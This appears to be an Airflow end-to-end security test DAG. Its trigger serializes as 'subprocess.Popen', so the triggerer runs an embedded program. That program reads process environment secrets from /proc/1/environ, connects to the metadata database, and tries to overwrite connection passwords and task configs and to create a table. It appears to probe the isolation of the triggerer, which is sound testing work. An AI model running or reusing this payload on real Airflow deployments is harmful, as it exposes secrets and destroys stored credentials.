"""Names a class as its trigger that is none: the triggerer calls it, and a program runs there (docs/security.md).

The program notes what it may do with the login of the database that it finds.
"""

from typing import Any

from airflow.sdk import DAG, BaseOperator
from airflow.triggers.base import BaseTrigger

PROGRAM = """
import json, pathlib, psycopg2
NOTES = "/tmp/e2e-foreign-trigger"
environment = dict(e.partition("=")[::2] for e in pathlib.Path("/proc/1/environ").read_text().split(chr(0)))
url = environment["AIRFLOW__DATABASE__SQL_ALCHEMY_CONN"].replace("+psycopg2", "")
found = {"keys": sorted(k for k in environment if k.startswith("AIRFLOW__") and k.endswith(("_KEY", "_SECRET")))}
for statement in (
    "SELECT count(*) FROM task_instance",
    "SELECT count(*) FROM ab_user",
    "UPDATE task_instance SET executor_config = 'x'",
    "UPDATE connection SET password = 'x'",
    "CREATE TABLE own (id int)",
):
    connection = psycopg2.connect(url)
    try:
        connection.cursor().execute(statement)
        found[statement] = "done"
    except psycopg2.Error as error:
        found[statement] = type(error).__name__
    connection.close()
pathlib.Path(NOTES + ".draft").write_text(json.dumps(found))
pathlib.Path(NOTES + ".draft").rename(NOTES)
"""


class NoTrigger(BaseTrigger):
    """What is stored of it names another class."""

    def serialize(self) -> tuple[str, dict[str, Any]]:
        return "subprocess.Popen", {"args": ["python", "-c", PROGRAM]}

    async def run(self) -> Any:
        yield None


class Defer(BaseOperator):
    """Defers to it."""

    def execute(self, context: Any) -> None:
        self.defer(trigger=NoTrigger(), method_name="resume")

    def resume(self, context: Any, event: Any = None) -> None:
        """Never called."""


with DAG("e2e_foreign_trigger", schedule=None):
    Defer(task_id="defer", retries=0)
